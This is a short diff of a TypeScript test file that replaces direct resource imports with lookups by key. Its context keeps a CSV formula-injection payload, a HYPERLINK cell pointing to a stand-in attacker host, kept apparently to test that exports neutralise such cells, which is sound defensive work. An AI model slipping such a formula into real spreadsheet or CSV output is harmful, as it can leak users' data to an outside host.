@@ -1,10 +1,12 @@
 import Papa from 'papaparse';
 import { csvCell } from '../../mocks/crud/csv';
 import { db } from '../../mocks/db';
-import riskAlert from '../../src/resources/orgMag/riskAlert';
-import order from '../../src/resources/order/order';
-import blacklist from '../../src/resources/risk/blacklist';
 import { ADMIN, call, download, Multipart, pinClock, signIn } from './helpers';
+import { resourceByKey } from '../../src/resources';
+
+const riskAlert = resourceByKey('riskAlert')!;
+const order = resourceByKey('order')!;
+const blacklist = resourceByKey('blacklist')!;
 
 /** A cell a spreadsheet runs: a link that sends the reader (and the sheet's data) elsewhere. */
 const FORMULA = '=HYPERLINK("http://evil.example","x")';
